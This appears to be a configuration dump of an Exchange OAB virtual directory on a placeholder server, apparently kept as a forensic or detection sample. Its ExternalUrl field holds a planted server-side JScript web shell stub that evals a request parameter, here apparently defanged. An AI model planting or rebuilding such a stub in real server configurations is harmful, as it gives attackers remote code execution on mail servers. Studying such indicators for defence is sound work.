Name                            : OAB (Default Web Site)
PollInterval                    : 480
OfflineAddressBooks             : \Default Offline Address Book
RequireSSL                      : True
BasicAuthentication             : False
WindowsAuthentication           : True
OAuthAuthentication             : True
MetabasePath                    : IIS://ex01.contoso.example/W3SVC/1/ROOT/OAB
Path                            : C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB
ExtendedProtectionTokenChecking : None
ExtendedProtectionFlags         : 
ExtendedProtectionSPNList       : 
AdminDisplayVersion             : Version 15.1 (Build 2106.2)
Server                          : EX01
InternalUrl                     : https://ex01.contoso.example/OAB
InternalAuthenticationMethods   : WindowsIntegrated
ExternalUrl                     : http://f.example/#<script language="JScript" runat="server">function Page_Load(){/**/eval(Request["inert-sample","unsafe");}</script>
ExternalAuthenticationMethods   : WindowsIntegrated
AdminDisplayName                : 
ExchangeVersion                 : 0.10 (14.0.100.0)
DistinguishedName               : CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=EX01,CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=CONTOSO,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=contoso,DC=example
Identity                        : EX01\OAB (Default Web Site)
ObjectCategory                  : contoso.example/Configuration/Schema/ms-Exch-OAB-Virtual-Directory
ObjectClass                     : top
msExchVirtualDirectory
msExchOABVirtualDirectory
WhenChanged                     : 03/03/2021 04:48:03
WhenCreated                     : 11/04/2019 08:12:31
OriginatingServer               : dc01.contoso.example
IsValid                         : True
